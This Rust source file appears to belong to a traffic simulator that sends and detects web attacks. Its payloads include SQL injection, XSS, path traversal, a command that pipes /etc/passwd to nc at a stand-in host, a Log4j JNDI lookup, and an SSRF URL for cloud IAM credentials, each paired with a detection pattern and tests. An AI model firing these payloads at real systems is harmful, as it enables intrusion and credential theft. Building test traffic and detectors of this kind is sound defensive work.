//! Attacks: how each looks when it is sent, and how a server knows that it has come.

/// A kind of attack on a service.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Attack {
    /// SQL injection.
    Sqli,
    /// Cross-site scripting.
    Xss,
    /// A file above the folder.
    Traversal,
    /// A shell command after a semicolon. Not microsim's, as those that follow.
    Command,
    /// A lookup that Log4j would have made.
    Jndi,
    /// An address that only the server should reach.
    Ssrf,
    /// SQL injection in base64 in JSON.
    Wrapped,
}

impl Attack {
    /// All of them, microsim's first.
    pub const ALL: [Self; 7] =
        [Self::Sqli, Self::Xss, Self::Traversal, Self::Command, Self::Jndi, Self::Ssrf, Self::Wrapped];

    /// Its name in counters and lines.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Sqli => "SQLi",
            Self::Xss => "XSS",
            Self::Traversal => "Directory Traversal",
            Self::Command => "Command Injection",
            Self::Jndi => "JNDI",
            Self::Ssrf => "SSRF",
            Self::Wrapped => "Wrapped SQLi",
        }
    }

    /// The variable that switches it on at a client.
    #[must_use]
    pub fn switch(self) -> &'static str {
        match self {
            Self::Sqli => "SEND_SQLI",
            Self::Xss => "SEND_XSS",
            Self::Traversal => "SEND_DIR_TRAVERSAL",
            Self::Command => "SEND_COMMAND_INJECTION",
            Self::Jndi => "SEND_JNDI",
            Self::Ssrf => "SEND_SSRF",
            Self::Wrapped => "SEND_WRAPPED_SQLI",
        }
    }

    /// Whether microsim has it: the others are sent and counted only where somebody asks for them.
    #[must_use]
    pub fn is_microsims(self) -> bool {
        matches!(self, Self::Sqli | Self::Xss | Self::Traversal)
    }

    /// What stands in the password of its request.
    #[must_use]
    pub fn payload(self) -> &'static str {
        match self {
            Self::Sqli => ";UNION SELECT 1, version() limit 1,1--",
            Self::Xss => "pwd<script>alert('attacked')</script>",
            Self::Traversal => "../../../../../passwd",
            Self::Command => "x; cat /etc/passwd | nc 198.51.100.7 4444",
            Self::Jndi => "${jndi:ldap://198.51.100.7:1389/a}",
            Self::Ssrf => "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            Self::Wrapped => WRAPPED,
        }
    }

    /// The query of its request, form-encoded.
    #[must_use]
    pub fn query(self) -> String {
        format!("username=joe%40example.com&password={}", encoded(self.payload()))
    }

    /// The kinds that a text shows, which is a target, or a body.
    #[must_use]
    pub fn found_in(text: &[u8]) -> Vec<Self> {
        let text = decoded(&String::from_utf8_lossy(text));
        Self::ALL.into_iter().filter(|kind| kind.is_in(&text)).collect()
    }

    fn is_in(self, text: &str) -> bool {
        match self {
            Self::Sqli => text.contains("UNION SELECT"),
            Self::Xss => text.contains("<script>alert"),
            Self::Traversal => has_traversal(text.as_bytes()),
            Self::Command => text.contains("; cat /etc/passwd"),
            Self::Jndi => text.contains("${jndi:"),
            Self::Ssrf => text.contains("http://169.254.169.254/"),
            Self::Wrapped => text.contains(WRAPPED),
        }
    }
}

/// `{"id":"1' UNION SELECT name, password FROM users--"}`.
const WRAPPED: &str = "eyJpZCI6IjEnIFVOSU9OIFNFTEVDVCBuYW1lLCBwYXNzd29yZCBGUk9NIHVzZXJzLS0ifQ==";

/// `../../../../../passwd`, where each dot stands for any character, as it does at microsim's.
fn has_traversal(text: &[u8]) -> bool {
    const BEFORE: usize = 15;
    let is_one = |end: usize| {
        let before = &text[end - BEFORE..end];
        before.iter().enumerate().all(|(at, byte)| if at % 3 == 2 { *byte == b'/' } else { *byte != b'\n' })
    };
    let ends = text.windows(6).enumerate().filter(|(_, window)| window == b"passwd").map(|(at, _)| at);
    ends.filter(|end| *end >= BEFORE).any(is_one)
}

/// A text with `%HH` and `+` decoded once; broken escapes stay, and what is not UTF-8 afterwards is replaced.
#[must_use]
pub fn decoded(text: &str) -> String {
    let hex = |byte: Option<&u8>| byte.and_then(|byte| char::from(*byte).to_digit(16));
    let mut decoded = Vec::with_capacity(text.len());
    let mut rest = text.as_bytes();
    while let [first, tail @ ..] = rest {
        rest = tail;
        match (first, hex(tail.first()), hex(tail.get(1))) {
            (b'%', Some(high), Some(low)) => {
                decoded.push((high * 16 + low) as u8);
                rest = &tail[2..];
            }
            (b'+', ..) => decoded.push(b' '),
            (byte, ..) => decoded.push(*byte),
        }
    }
    String::from_utf8_lossy(&decoded).into_owned()
}

/// A text as Python's `urlencode` writes it.
fn encoded(text: &str) -> String {
    let mut encoded = String::with_capacity(text.len() * 2);
    for byte in text.bytes() {
        match byte {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'_' | b'.' | b'-' | b'~' => {
                encoded.push(char::from(byte))
            }
            b' ' => encoded.push('+'),
            _ => encoded.push_str(&format!("%{byte:02X}")),
        }
    }
    encoded
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_sent_is_what_is_found() {
        for kind in Attack::ALL {
            let target = format!("/?{}", kind.query());
            assert_eq!(Attack::found_in(target.as_bytes()), [kind], "{target}");
            assert_eq!(Attack::found_in(kind.payload().as_bytes()), [kind], "as a body");
        }
    }

    #[test]
    fn queries_are_those_of_the_table() {
        let query = "username=joe%40example.com&password=";
        for (kind, password) in [
            (Attack::Sqli, "%3BUNION+SELECT+1%2C+version%28%29+limit+1%2C1--"),
            (Attack::Xss, "pwd%3Cscript%3Ealert%28%27attacked%27%29%3C%2Fscript%3E"),
            (Attack::Traversal, "..%2F..%2F..%2F..%2F..%2Fpasswd"),
        ] {
            assert_eq!(kind.query(), format!("{query}{password}"));
        }
    }

    #[test]
    fn one_request_may_be_several_attacks_and_ordinary_ones_are_none() {
        let both = "/?a=UNION%20SELECT&b=%3Cscript%3Ealert(1)";
        assert_eq!(Attack::found_in(both.as_bytes()), [Attack::Sqli, Attack::Xss]);
        assert_eq!(
            Attack::found_in(b"/ab/cd/ef/gh/ij/passwd"),
            [Attack::Traversal],
            "dots are any characters"
        );
        for ordinary in
            ["/", "/?q=the+union+selects", "/etc/passwd", "/a/b/c/d/e/passwd", "{\"data\": \"x\"}"]
        {
            assert_eq!(Attack::found_in(ordinary.as_bytes()), [], "{ordinary}");
        }
    }
}
